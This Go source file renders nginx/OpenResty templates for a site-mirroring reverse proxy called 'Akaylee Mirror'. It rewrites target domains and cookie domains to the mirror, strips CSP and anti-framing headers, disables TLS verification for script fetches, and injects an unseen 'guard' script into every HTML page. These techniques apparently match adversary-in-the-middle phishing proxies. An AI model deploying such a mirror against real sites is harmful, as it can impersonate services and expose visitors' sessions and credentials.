/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: templates.go
Description: nginx/OpenResty configuration template for the Akaylee Mirror. One upstream
per target host, one location per path rule, an asset location, a script-rewrite location
and a hardened catch-all. Textual bodies get domain rewriting; HTML also gets the guard.
*/

package emitter

// luaLongOpen and luaLongClose delimit the guard script inside the emitted Lua
const (
	luaLongOpen  = "[==["
	luaLongClose = "]==]"
)

// textualTypes are the response content types whose bodies get domain rewriting
var textualTypes = []string{"text/", "json", "javascript", "xml"}

// filterTemplates are shared Lua fragments; "domains" expects the configView
const filterTemplates = `{{define "textual"}}
            local function textual(ctype)
                if not ctype then
                    return false
                end
                ctype = ctype:lower()
{{- range textualTypes}}
                if ctype:find({{luaQuote .}}, 1, true) then
                    return true
                end
{{- end}}
                return false
            end
{{- end}}{{define "buffer"}}
            ngx.ctx.buffered = (ngx.ctx.buffered or "") .. (ngx.arg[1] or "")
            if not ngx.arg[2] then
                ngx.arg[1] = nil
                return
            end
{{- end}}{{define "domains"}}
{{- range .DomainRules}}
            body = body:gsub({{.Pattern}}, {{.Replacement}})
{{- end}}
{{- end}}`

// nginxTemplate is rendered from a configView; every value reaching it is pre-escaped
const nginxTemplate = `# Akaylee Mirror configuration
# vendor:        {{.Vendor}}
# dominant host: {{.DominantHost}}
# host mode:     {{.HostMode}}
# ruleset:       {{.Fingerprint}}
{{range .Upstreams}}
upstream {{.Name}} {
    server {{.Host}}:443;
    keepalive 16;
}
{{end}}
map $http_upgrade $connection_upgrade {
    default upgrade;
    ''      '';
}

server {
    listen {{.Listen}};
    server_name {{.ServerName}};

    resolver {{.Resolvers}} valid=300s ipv6=off;
    resolver_timeout 5s;

    proxy_ssl_server_name on;
    proxy_buffering off;
    proxy_read_timeout 120s;
    proxy_send_timeout 120s;
    client_max_body_size 50m;
{{range .Locations}}
    # {{.Kind}} {{.Pattern}}
    location {{if .Modifier}}{{.Modifier}} {{end}}{{.Path}} {
        proxy_pass https://{{.Upstream}};
        proxy_method $request_method;
        proxy_http_version 1.1;
        proxy_ssl_name {{.Host}};
        proxy_set_header Host {{.Host}};
        proxy_set_header Origin https://{{.Host}};
        proxy_set_header Referer https://{{.Host}}/;
        proxy_set_header Upgrade $http_upgrade;
        proxy_set_header Connection $connection_upgrade;
        proxy_set_header X-Real-IP $remote_addr;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
        proxy_set_header Accept-Encoding "";
        proxy_cookie_domain {{.Host}} $host;
        proxy_redirect https://{{.Host}}/ $scheme://$http_host/;

        header_filter_by_lua_block {
            {{- template "textual"}}
            if textual(ngx.header.content_type) then
                ngx.header.content_length = nil
            end
        }

        body_filter_by_lua_block {
            {{- template "textual"}}
            if not textual(ngx.header.content_type) then
                return
            end
            {{- template "buffer"}}

            local body = ngx.ctx.buffered
            {{- template "domains" $}}
            ngx.arg[1] = body
        }
    }
{{end}}
    # vendor scripts: domain and variable rewriting
    location ~* \.js$ {
        content_by_lua_block {
            local http = require "resty.http"
            local httpc = http.new()
            httpc:set_timeout(30000)
            local res, err = httpc:request_uri({{.ScriptOrigin}} .. ngx.var.request_uri, {
                method = "GET",
                headers = {
                    ["Host"] = {{.ScriptHost}},
                    ["User-Agent"] = ngx.var.http_user_agent,
                    ["Accept-Encoding"] = "identity",
                },
                ssl_verify = false,
            })
            if not res then
                ngx.log(ngx.ERR, "script fetch failed: ", err)
                return ngx.exit(ngx.HTTP_BAD_GATEWAY)
            end

            local body = res.body
            {{- template "domains" .}}
{{- range .VariableRules}}
            body = body:gsub({{.Pattern}}, {{.Replacement}})
{{- end}}

            ngx.status = res.status
            ngx.header["Content-Type"] = res.headers["Content-Type"] or "application/javascript"
            ngx.header["Cache-Control"] = "no-cache"
            ngx.print(body)
        }
    }

    # static assets
    location ~* \.({{.AssetPattern}})$ {
        proxy_pass https://{{.Dominant.Name}};
        proxy_http_version 1.1;
        proxy_ssl_name {{.Dominant.Host}};
        proxy_set_header Host {{.Dominant.Host}};
        proxy_set_header Referer https://{{.Dominant.Host}}/;
        expires 1h;
        add_header Cache-Control "public";
    }

    # everything else: strip framing headers and rewrite textual bodies
    location / {
        proxy_pass https://{{.Dominant.Name}};
        proxy_method $request_method;
        proxy_http_version 1.1;
        proxy_ssl_name {{.Dominant.Host}};
        proxy_set_header Host {{.Dominant.Host}};
        proxy_set_header Origin https://{{.Dominant.Host}};
        proxy_set_header Referer https://{{.Dominant.Host}}/;
        proxy_set_header Upgrade $http_upgrade;
        proxy_set_header Connection $connection_upgrade;
        proxy_set_header Accept-Encoding "";
        proxy_hide_header Content-Security-Policy;
        proxy_hide_header Content-Security-Policy-Report-Only;
        proxy_hide_header X-Frame-Options;
        proxy_hide_header X-Content-Type-Options;
        proxy_cookie_domain {{.Dominant.Host}} $host;
        proxy_redirect https://{{.Dominant.Host}}/ $scheme://$http_host/;

        header_filter_by_lua_block {
            {{- template "textual"}}
            if textual(ngx.header.content_type) then
                ngx.header.content_length = nil
            end
        }

        body_filter_by_lua_block {
            {{- template "textual"}}
            local ctype = ngx.header.content_type
            if not textual(ctype) then
                return
            end
            {{- template "buffer"}}

            local body = ngx.ctx.buffered
            {{- template "domains" $}}
            if ctype:lower():find("text/html", 1, true) then
                local guard = {{.GuardScript}}
                local injected, n = body:gsub("<[Hh][Ee][Aa][Dd][^>]*>", function(tag) return tag .. guard end, 1)
                if n == 0 then
                    injected = body:gsub("<[Hh][Tt][Mm][Ll][^>]*>", function(tag) return tag .. guard end, 1)
                end
                body = injected
            end
            ngx.arg[1] = body
        }
    }
}
`
